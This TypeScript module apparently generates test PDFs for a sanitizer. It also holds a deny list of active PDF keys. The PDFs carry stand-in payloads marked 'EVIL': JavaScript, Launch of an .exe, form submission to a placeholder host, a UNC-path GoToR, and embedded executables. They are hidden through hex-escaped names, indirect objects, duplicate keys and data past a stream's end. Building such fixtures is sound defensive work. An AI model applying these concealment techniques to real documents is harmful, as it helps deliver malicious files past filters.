import { packed, stream, writeRaw, type Writing } from './rawPdf.ts';

/** A PDF that acts or carries: what and how it is hidden. */
export interface ActivePdf {
  what: string;
  bytes: Buffer;
}

/**
 * Marks that stand in every active part; none of them, and no key of `activeNames`, may stand in what is kept.
 * The page shows `SHOWN`, which must stay.
 */
export const MARK = 'EVIL';
export const SHOWN = 'Lo que se ve';

/** Keys and kinds of action that a kept file must not have anywhere. */
export const activeNames = [
  ...['A', 'AA', 'OpenAction', 'Names', 'JavaScript', 'JS', 'EmbeddedFiles', 'EmbeddedFile', 'EF'],
  ...['AcroForm', 'XFA', 'Metadata', 'StructTreeRoot', 'OCProperties', 'Outlines', 'URI', 'Perms'],
  ...['Collection', 'RichMedia', 'RichMediaContent', 'PS', 'Ref', 'OPI', 'Alternates', 'Thumb'],
  ...['Annots', 'Launch', 'GoToR', 'GoToE', 'SubmitForm', 'ImportData', 'Rendition', 'Movie'],
  ...['Sound', 'Thread', 'SetOCGState', 'Trans', 'GoTo3DView', 'Named', 'Filespec', 'Threads'],
  ...['PieceInfo', 'AF', 'Next', 'Dests', 'FileAttachment', '3DD', 'PresSteps', 'FFilter'],
];

/** What an action does, as the inside of its dictionary. */
const actions: Record<string, string> = {
  JavaScript: `/S/JavaScript/JS(app.alert\\(1\\)//${MARK})`,
  Launch: `/S/Launch/F(${MARK}.exe)/Win<</F(${MARK}.exe)>>`,
  GoToR: `/S/GoToR/F(\\\\\\\\${MARK}\\\\share)/D[0/Fit]`,
  GoToE: `/S/GoToE/T<</R/C/N(${MARK})>>/D[0/Fit]`,
  URI: `/S/URI/URI(http://${MARK}.example/)`,
  SubmitForm: `/S/SubmitForm/F<</FS/URL/F(http://${MARK}.example/)>>`,
  ImportData: `/S/ImportData/F(${MARK}.fdf)`,
  Named: '/S/Named/N/Print',
  Rendition: `/S/Rendition/OP 0/JS(${MARK})/R<</S/MR/C<</S/MCD/D(${MARK})/CT(video/mp4)>>>>`,
  Movie: `/S/Movie/T(${MARK})`,
  Sound: '/S/Sound/Sound 20 0 R',
  Thread: `/S/Thread/F(${MARK}.pdf)/D 0`,
  SetOCGState: '/S/SetOCGState/State[/OFF 21 0 R]',
  Trans: '/S/Trans/Trans<</S/Wipe>>',
  GoTo3DView: `/S/GoTo3DView/TA 12 0 R/V(${MARK})`,
  Chained: `/S/Named/N/NextPage/Next[<</S/JavaScript/JS(${MARK})>>]`,
};

/** Where an action can hang; gives what is added to catalog, page and other objects. */
interface Hung {
  catalog?: string;
  page?: string;
  pages?: string;
  objects?: [number, string | Buffer][];
}

const form = (more: string) => `/AcroForm<</Fields[12 0 R]${more}>>`;
const widget = (more: string): [number, string] => [
  12,
  `<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[10 10 90 30]/P 3 0 R${more}>>`,
];

const carriers: Record<string, (action: string) => Hung> = {
  OpenAction: (action) => ({ catalog: `/OpenAction ${action}` }),
  'AA of the catalog': (action) => ({ catalog: `/AA<</WC ${action}/DP ${action}>>` }),
  'AA of the page': (action) => ({ page: `/AA<</O ${action}>>` }),
  'AA of the page tree': (action) => ({ pages: `/AA<</O ${action}>>` }),
  'AA of a note': (action) => ({
    page: '/Annots[12 0 R]',
    objects: [[12, `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/AA<</PV ${action}>>>>`]],
  }),
  'AA of a field': (action) => ({
    catalog: form(''),
    page: '/Annots[12 0 R]',
    objects: [widget(`/AA<</K ${action}/F ${action}>>`)],
  }),
  'a note': (action) => ({
    page: '/Annots[12 0 R]',
    objects: [[12, `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A ${action}/PA ${action}>>`]],
  }),
  'a stamp that is shown': (action) => ({
    page: '/Annots[12 0 R]',
    objects: [
      [12, `<</Type/Annot/Subtype/Stamp/Rect[0 0 30 20]/A ${action}/AP<</N 13 0 R>>>>`],
      [13, stream(`/Subtype/Form/BBox[0 0 30 20]/AA<</O ${action}>>/A ${action}`, '0 0 5 5 re f')],
    ],
  }),
  outlines: (action) => ({
    catalog: '/Outlines 12 0 R',
    objects: [
      [12, '<</First 13 0 R/Last 13 0 R/Count 1>>'],
      [13, `<</Title(a)/Parent 12 0 R/A ${action}>>`],
    ],
  }),
  'a button': (action) => ({
    catalog: form('/NeedAppearances true'),
    page: '/Annots[12 0 R]',
    objects: [
      [12, `<</Type/Annot/Subtype/Widget/FT/Btn/T(f)/Rect[0 0 9 9]/A ${action}/MK<</CA(x)>>>>`],
    ],
  }),
  'names of scripts': (action) => ({ catalog: `/Names<</JavaScript<</Names[(a) ${action}]>>>>` }),
  'the resources': (action) => ({ page: `/Resources<</Properties<</P ${action}>>/AA ${action}>>` }),
};

/** Things that are active by themselves. */
const carried: Record<string, Hung> = {
  XFA: {
    catalog: '/AcroForm<</Fields[]/XFA 12 0 R>>',
    objects: [[12, packed('', `<xdp:xdp><script>${MARK}</script></xdp:xdp>`)]],
  },
  'an attached file': {
    catalog: '/Names<</EmbeddedFiles<</Names[(a) 12 0 R]>>>>/AF[12 0 R]',
    objects: [
      [12, `<</Type/Filespec/F(${MARK}.exe)/EF<</F 13 0 R>>>>`],
      [13, packed('/Type/EmbeddedFile', `MZ${MARK}`)],
    ],
  },
  'a file pinned to the page': {
    page: '/Annots[12 0 R]',
    objects: [
      [
        12,
        `<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(${MARK})/EF<</F 13 0 R>>>>>>`,
      ],
      [13, packed('/Type/EmbeddedFile', `MZ${MARK}`)],
    ],
  },
  'rich media': {
    page: '/Annots[12 0 R]',
    objects: [
      [
        12,
        '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a) 13 0 R]>>>>>>',
      ],
      [13, `<</Type/Filespec/F(${MARK}.swf)/EF<</F 14 0 R>>>>`],
      [14, packed('/Type/EmbeddedFile', `FWS${MARK}`)],
    ],
  },
  'a film': {
    page: '/Annots[12 0 R]',
    objects: [[12, `<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(${MARK}.avi)>>/A true>>`]],
  },
  'a program in PostScript': {
    page: '/Resources<</XObject<</X 12 0 R>>>>',
    objects: [[12, stream('/Type/XObject/Subtype/PS', `(${MARK}) print`)]],
  },
  'a page of another file': {
    page: '/Resources<</XObject<</X 12 0 R>>>>',
    objects: [[12, stream(`/Subtype/Form/BBox[0 0 9 9]/Ref<</F(${MARK}.pdf)/Page 0>>`, '')]],
  },
  'a picture elsewhere': {
    page: '/Resources<</XObject<</X 12 0 R/Y 13 0 R>>>>',
    objects: [
      [
        12,
        stream(
          `/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(${MARK})/FFilter/DCTDecode`,
          '',
        ),
      ],
      [
        13,
        stream(
          `/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/OPI<</2.0<</F(${MARK})>>>>/Alternates[<</Image 12 0 R>>]`,
          'x',
        ),
      ],
    ],
  },
  'a content elsewhere': {
    page: '/Contents[5 0 R 12 0 R]/Thumb 12 0 R',
    objects: [[12, stream(`/F(${MARK}.txt)`, '')]],
  },
  'notes of its maker': {
    catalog: '/Metadata 12 0 R/PieceInfo<</X<</Private 12 0 R>>>>',
    page: '/Metadata 12 0 R/PieceInfo<</X<</Private 12 0 R>>>>',
    objects: [[12, stream('/Type/Metadata/Subtype/XML', `<x>${MARK}</x>`)]],
  },
  'a thread': {
    catalog: '/Threads[12 0 R]/URI<</Base(http://EVIL.example/)>>',
    objects: [
      [12, `<</I<</Title(${MARK})>>/F 13 0 R>>`],
      [13, '<</T 12 0 R/P 3 0 R/R[0 0 9 9]>>'],
    ],
  },
  'an object behind the end of a stream': {
    page: '/Contents[5 0 R 12 0 R]',
    objects: [
      [
        12,
        Buffer.concat([packed('', 'q Q').subarray(0, -10), Buffer.from(`/AA ${MARK}\nendstream`)]),
      ],
    ],
  },
};

/** Ways of hiding, as changes of an action's text. */
const hidings: Record<
  string,
  { action(inside: string): string; add?(inside: string): [number, string][] }
> = {
  direct: { action: (inside) => `<<${inside}>>` },
  indirect: { action: () => '30 0 R', add: (inside) => [[30, `<<${inside}>>`]] },
  'indirect /S': {
    action: () => '30 0 R',
    add: (inside) => {
      const kind = /\/S\/(\w+)/.exec(inside)![1]!;
      return [
        [30, `<<${inside.replace(/\/S\/\w+/, '/S 31 0 R')}>>`],
        [31, `/${kind}`],
      ];
    },
  },
  'names in hexadecimal': {
    action: (inside) =>
      `<<${inside.replace(/\/(S|JS|F|URI|D|T|N|R)(?=[/(<[ ])/g, (name) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`).replace(/\/(Java|Launch|GoTo|Submit|Import|Named|Rend|Mov|Sou|Thr|Set|Tran)/, (name) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`)}>>`,
  },
  'keys twice': { action: (inside) => `<</S/GoTo/D[3 0 R/Fit]${inside}>>` },
  'another generation': { action: () => '30 7 R', add: (inside) => [[30, `<<${inside}>>`]] },
};

const listed: Writing[] = ['table', 'objectStreams', 'incremental', 'hybrid', 'compressedTable'];

function pdfOf(
  { catalog = '', page = '', pages = '', objects = [] }: Hung,
  writing: Writing,
): Buffer {
  // A page has its own resources unless it inherits them.
  const own = page.includes('/Resources');
  const fonts = '/Font<</F1 4 0 R>>';
  const all = new Map<number, string | Buffer>([
    [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
    [2, `<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 300 200]/Resources<<${fonts}>>${pages}>>`],
    [
      3,
      `<</Type/Page/Parent 2 0 R${page.includes('/Contents') ? '' : '/Contents 5 0 R'}${own ? page.replace('/Resources<<', `/Resources<<${fonts}`) : page}>>`,
    ],
    [4, '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>'],
    [5, packed('', `BT /F1 12 Tf 20 150 Td (${SHOWN}) Tj ET`)],
    [20, stream('/Type/Sound/R 8000', `${MARK}`)],
    [21, '<</Type/OCG/Name(x)>>'],
    ...objects,
  ]);
  return writeRaw({ objects: all, trailer: '/Root 1 0 R' }, writing);
}

/**
 * Every carrier with every action, each hidden in another way and written in another way in turn, and
 * everything that is active by itself in every writing. The same every time.
 */
export function activePdfs(): ActivePdf[] {
  const ways = Object.entries(hidings);
  const acting = Object.entries(carriers).flatMap(([where, hang], row) =>
    Object.entries(actions).map(([kind, inside], column): ActivePdf => {
      const [how, { action, add }] = ways[(row * 5 + column) % ways.length]!;
      const writing = listed[(row + column * 2) % listed.length]!;
      const hung = hang(action(inside));
      const objects = [...(hung.objects ?? []), ...(add?.(inside) ?? [])];
      return {
        what: `${kind} in ${where}, ${how}, ${writing}`,
        bytes: pdfOf({ ...hung, objects }, writing),
      };
    }),
  );
  const carrying = Object.entries(carried).flatMap(([what, hung]) =>
    listed.map((writing): ActivePdf => ({
      what: `${what}, ${writing}`,
      bytes: pdfOf(hung, writing),
    })),
  );
  return [...acting, ...carrying];
}
